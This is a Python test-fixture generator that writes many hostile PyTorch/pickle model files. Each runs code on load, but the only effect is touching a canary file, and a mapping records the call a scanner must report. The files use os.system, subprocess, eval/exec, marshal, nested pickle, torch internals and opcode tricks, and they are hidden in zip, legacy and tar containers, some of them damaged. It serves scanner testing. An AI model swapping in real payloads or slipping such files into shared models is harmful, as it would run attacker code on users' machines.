"""Files that run code when they are opened with ``torch.load(weights_only=False)``, and nothing but touch one file.

``write_hostile`` writes them all; ``CALLS`` names for each what it would call. Standard library only.
"""

from __future__ import annotations

import io
import marshal
import shlex
import struct
import tarfile
import warnings
import zipfile
import zlib
from pathlib import Path

MAGIC = 0x1950A86A20F9469CFC6C


class Ops(bytes):
    """Pickle operations, as opposed to a bytes value."""


def ops(value: object) -> bytes:
    """The operations that push ``value``."""
    if isinstance(value, Ops):
        return bytes(value)
    if value is None:
        return b"N"
    if isinstance(value, bool):
        return b"\x88" if value else b"\x89"
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value)
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value)
    if isinstance(value, str):
        data = value.encode()
        return b"X" + struct.pack("<I", len(data)) + data
    if isinstance(value, bytes):
        return b"B" + struct.pack("<I", len(value)) + value
    if isinstance(value, tuple):
        return b"(" + b"".join(ops(item) for item in value) + b"t"
    if isinstance(value, list):
        return b"](" + b"".join(ops(item) for item in value) + b"e"
    if isinstance(value, dict):
        return b"}(" + b"".join(ops(key) + ops(item) for key, item in value.items()) + b"u"
    raise TypeError(type(value))


def name(module: str, attribute: str) -> Ops:
    """A global."""
    return Ops(f"c{module}\n{attribute}\n".encode())


def dotted(module: str, attribute: str) -> Ops:
    """A global by the stack, which may be an attribute of an attribute (protocol 4)."""
    return Ops(ops(module) + ops(attribute) + b"\x93")


def call(function: Ops, *arguments: object) -> Ops:
    """``function(*arguments)``."""
    return Ops(ops(function) + ops(arguments) + b"R")


def reference(kind: str, key: str, count: int, *view: object) -> Ops:
    """A tensor's storage; legacy files give a view as well, usually ``None``."""
    return Ops(ops(("storage", name("torch", kind), key, "cpu", count, *view)) + b"Q")


def tensor(key: str, *shape: int, view: tuple[object, ...] = ()) -> Ops:
    """A float32 tensor of one or two dimensions over storage ``key``."""
    strides = (shape[1], 1) if len(shape) == 2 else (1,)
    count = shape[0] * (shape[1] if len(shape) == 2 else 1)
    hooks = call(name("collections", "OrderedDict"))
    storage = reference("FloatStorage", key, count, *view)
    return call(name("torch._utils", "_rebuild_tensor_v2"), storage, 0, shape, strides, False, hooks)


def stream(value: object, protocol: int = 4) -> bytes:
    """A whole pickle."""
    return b"\x80" + bytes([protocol]) + ops(value) + b"."


def zipped(pickle: bytes, *, deflated: bool = False, folder: str = "archive") -> bytes:
    """A torch zip file with one storage of six floats."""
    buffer = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if deflated else zipfile.ZIP_STORED
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr(f"{folder}/data.pkl", pickle)
        archive.writestr(f"{folder}/byteorder", "little")
        archive.writestr(f"{folder}/data/0", struct.pack("<6f", 1, 2, 3, 4, 5, 6), zipfile.ZIP_STORED)
        archive.writestr(f"{folder}/version", "3\n")
    return buffer.getvalue()


def legacy(*pickles: bytes) -> bytes:
    """A file as torch before 1.6 wrote it, with the given pickles in front of the usual rest."""
    usual = [
        b"\x80\x02\x8a\x0a" + MAGIC.to_bytes(10, "little") + b".",
        stream(1001, 2),
        stream({"protocol_version": 1001, "little_endian": True}, 2),
        stream({"weight": tensor("0", 2, 3, view=(None,))}, 2),
        stream(["0"], 2),
    ]
    storage = struct.pack("<q", 6) + struct.pack("<6f", 1, 2, 3, 4, 5, 6)
    return b"".join([*pickles, *usual[len(pickles) :]]) + storage


def tarred(pickle: bytes) -> bytes:
    """A file as torch before 0.1.10 wrote it, without tensors."""
    buffer = io.BytesIO()
    nothing = stream(0, 2)
    members = {"sys_info": stream({}, 2), "pickle": pickle, "tensors": nothing, "storages": nothing + stream([], 2)}
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for member, data in members.items():
            info = tarfile.TarInfo(member)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _direct(shell: str, python: str, path: str) -> dict[str, tuple[Ops, str]]:
    """Plain calls, and the name that must be reported."""
    words = ["touch", path]
    return {
        "os_system": (call(name("os", "system"), shell), "os.system"),
        "posix_system": (call(name("posix", "system"), shell), "posix.system"),
        "subprocess_run": (call(name("subprocess", "run"), words), "subprocess.run"),
        "subprocess_getoutput": (call(name("subprocess", "getoutput"), shell), "subprocess.getoutput"),
        "subprocess_check_output": (call(name("subprocess", "check_output"), words), "subprocess.check_output"),
        "os_spawn": (call(name("os", "spawnlp"), 0, "touch", "touch", path), "os.spawnlp"),
        "builtins_exec": (call(name("builtins", "exec"), python), "builtins.exec"),
        "builtins_eval": (call(name("builtins", "eval"), python), "builtins.eval"),
        "timeit": (call(name("timeit", "timeit"), python, "pass", name("timeit", "default_timer"), 1), "timeit.timeit"),
        "cprofile": (call(name("cProfile", "run"), python, path + ".profile"), "cProfile.run"),
        "profile": (call(name("profile", "run"), python, path + ".profile"), "profile.run"),
        "bdb": (call(dotted("bdb", "Bdb.run"), call(name("bdb", "Bdb")), python), "bdb.Bdb.run"),
        "pydoc_pager": (call(name("pydoc", "pipepager"), "", shell), "pydoc.pipepager"),
        "collect_env": (call(name("torch.utils.collect_env", "run"), shell), "torch.utils.collect_env.run"),
        "exec_wrapper": (
            call(name("torch.jit.unsupported_tensor_ops", "execWrapper"), python, {}, {}),
            "torch.jit.unsupported_tensor_ops.execWrapper",
        ),
        "numpy_runstring": (
            call(name("numpy.testing._private.utils", "runstring"), python, {}),
            "numpy.testing._private.utils.runstring",
        ),
        "sympify": (
            call(name("sympy.core.sympify", "sympify"), f"__import__('os').system({shell!r})"),
            "sympy.core.sympify.sympify",
        ),
        "io_open": (call(name("io", "open"), path, "w"), "io.open"),
        "file_io": (call(name("_io", "FileIO"), path, "w"), "_io.FileIO"),
        "path_touch": (
            call(dotted("pathlib", "Path.touch"), call(name("pathlib", "PosixPath"), path)),
            "pathlib.Path.touch",
        ),
        "shutil_copy": (call(name("shutil", "copyfile"), "/dev/null", path), "shutil.copyfile"),
    }  # fmt: skip


def _indirect(shell: str, python: str) -> dict[str, tuple[Ops, str]]:
    """Calls by way of something harmless-looking."""
    system = name("os", "system")
    module = call(name("importlib", "import_module"), "os")
    code = marshal.dumps(compile(python, "m", "exec"))
    function = call(name("types", "FunctionType"), call(name("marshal", "loads"), code), {}, "f")
    nested = stream(call(system, shell))
    words = ["/bin/sh", "-c", shell]
    popen = name("subprocess", "Popen")
    return {
        "importlib": (
            call(call(name("builtins", "getattr"), module, "system"), shell),
            "importlib.import_module",
        ),
        "pkgutil": (call(call(name("pkgutil", "resolve_name"), "os:system"), shell), "pkgutil.resolve_name"),
        "attrgetter": (
            call(call(call(name("operator", "attrgetter"), "system"), module), shell),
            "operator.attrgetter",
        ),
        "methodcaller": (
            call(call(name("operator", "methodcaller"), "system", shell), module),
            "operator.methodcaller",
        ),
        "partial": (call(call(name("functools", "partial"), system, shell)), "<computed callable>"),
        "map": (call(name("builtins", "list"), call(name("builtins", "map"), system, [shell])), "builtins.map"),
        "marshal": (call(function), "marshal.loads"),
        "pickle_loads": (call(name("pickle", "loads"), nested), "pickle.loads"),
        "_pickle_loads": (call(name("_pickle", "loads"), nested), "_pickle.loads"),
        "load_from_bytes": (call(name("torch.storage", "_load_from_bytes"), nested), "os.system"),
        "rebuild_from_type": (
            call(name("torch._tensor", "_rebuild_from_type_v2"), system, name("builtins", "int"), (shell,), {}),
            "os.system",
        ),
        "reconstructor": (call(name("copyreg", "_reconstructor"), popen, popen, words), "copyreg._reconstructor"),
    }  # fmt: skip


def _by_opcode(shell: str) -> dict[str, tuple[Ops, str]]:
    """The same call by other operations of the pickle machine."""
    system = name("os", "system")
    return {
        "inst": (Ops(b"(" + ops(shell) + b"ios\nsystem\n"), "os.system"),
        "obj": (Ops(b"(" + ops(system) + ops(shell) + b"o"), "os.system"),
        "stack_global": (call(dotted("os", "system"), shell), "os.system"),
        "memo": (
            Ops(ops("harmless") + b"q\x050" + ops(system) + b"q\x050" + b"h\x05" + ops((shell,)) + b"R"),
            "os.system",
        ),
        "dup": (Ops(ops(system) + b"2" + ops((shell,)) + b"R" + b"q\x060" + b"0h\x06"), "os.system"),
        "dict_key": (Ops(ops({call(system, shell): 1})), "os.system"),
        "new_with_keywords": (
            Ops(ops(name("collections", "OrderedDict")) + ops(()) + ops({"a": call(system, shell)}) + b"\x92"),
            "os.system",
        ),
        "state": (
            Ops(ops(call(name("collections", "OrderedDict"))) + ops({"a": call(system, shell)}) + b"b"),
            "os.system",
        ),
        "python2_names": (
            call(name("__builtin__", "eval"), f"__import__('os').system({shell!r})"),
            "builtins.eval",
        ),
    }  # fmt: skip


def _damage(data: bytes, old: bytes, new: bytes) -> bytes:
    if old not in data:
        raise ValueError("nothing to damage")
    return data.replace(old, new)


def _containers(attack: Ops, good: bytes) -> dict[str, tuple[bytes, str]]:
    """One call in every kind of file and damage: file name and bytes."""
    inside = stream({"weight": tensor("0", 2, 3), "note": attack}, 2)
    alone = stream(attack)
    harmless = stream({"weight": tensor("0", 2, 3)}, 2)
    zip_ = zipped(inside)
    checksum = struct.pack("<I", zlib.crc32(inside))
    return {
        "zip_state_dict": (zip_, ".pth"),
        "zip_deflated": (zipped(inside, deflated=True), ".pth"),
        "zip_wrong_checksum": (_damage(zip_, checksum, b"\1\2\3\4"), ".pth"),
        "zip_two_pickles": (_twice(inside, harmless), ".pth"),
        "legacy_object": (
            legacy(*_front(3), stream({"weight": tensor("0", 2, 3, view=(None,)), "note": attack}, 2)),
            ".pt",
        ),
        "legacy_second_pickle": (legacy(*_front(1), stream(attack, 2)), ".pt"),
        "legacy_first_pickle": (legacy(alone), ".pt"),
        "legacy_last_pickle": (legacy(*_front(3), good, stream([attack, "0"], 2)), ".pt"),
        "tar": (tarred(alone), ".tar"),
        "wrong_ending_png": (alone, ".png"),
        "no_ending": (alone, ""),
        "old_protocol_0": (b"cos\nsystem\n(" + _line(attack) + b"tR.", ".pkl"),
        "truncated_after_call": (alone[:-1] + ops("x" * 50)[:30], ".pth"),
        "broken_after_call": (alone[:-1] + b"\xff\xff", ".pth"),
        "zip_truncated_pickle": (zipped(alone[:-1]), ".pth"),
        "tail_of_pickles": (alone + stream({"a": 1}), ".pkl"),
    }


def _line(attack: Ops) -> bytes:
    """The shell text of an ``os.system`` attack as a protocol 0 text."""
    text = bytes(attack).split(b"(X", 1)[1][4:].rsplit(b"tR", 1)[0]
    return b"V" + text + b"\n"


def _front(count: int) -> list[bytes]:
    return [
        b"\x80\x02\x8a\x0a" + MAGIC.to_bytes(10, "little") + b".",
        stream(1001, 2),
        stream({"protocol_version": 1001, "little_endian": True}, 2),
    ][:count]


def _twice(first: bytes, last: bytes) -> bytes:
    """A torch zip with two members named data.pkl."""
    buffer = io.BytesIO(zipped(first))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        with zipfile.ZipFile(buffer, "a") as archive:
            archive.writestr("archive/data.pkl", last)
    return buffer.getvalue()


def attacks(canary: Path) -> dict[str, tuple[bytes, str, str]]:
    """Every attack by name: the bytes, the ending, and the call that must be reported."""
    path = str(canary)
    shell, python = f"touch {shlex.quote(path)}", f"open({path!r}, 'w').close()"
    found: dict[str, tuple[bytes, str, str]] = {}
    for kind, (attack, target) in (_direct(shell, python, path) | _indirect(shell, python) | _by_opcode(shell)).items():
        protocol = 2 if kind == "python2_names" else 4
        found[kind] = (zipped(stream({"weight": tensor("0", 2, 3), "note": attack}, protocol)), ".pth", target)
    good = stream({"weight": tensor("0", 2, 3, view=(None,))}, 2)
    for kind, (data, ending) in _containers(call(name("os", "system"), shell), good).items():
        found[kind] = (data, ending, "os.system")
    return found


def write_hostile(folder: Path, canary: Path) -> dict[str, Path]:
    """Write every attack into ``folder``; each would create ``canary``. Returns name to path."""
    paths: dict[str, Path] = {}
    for kind, (data, ending, _) in attacks(canary).items():
        paths[kind] = folder / f"{kind}{ending}"
        paths[kind].write_bytes(data)
    return paths


def expected_calls(canary: Path) -> dict[str, str]:
    """For each attack, the dotted name that a report must list."""
    return {kind: target for kind, (_, _, target) in attacks(canary).items()}
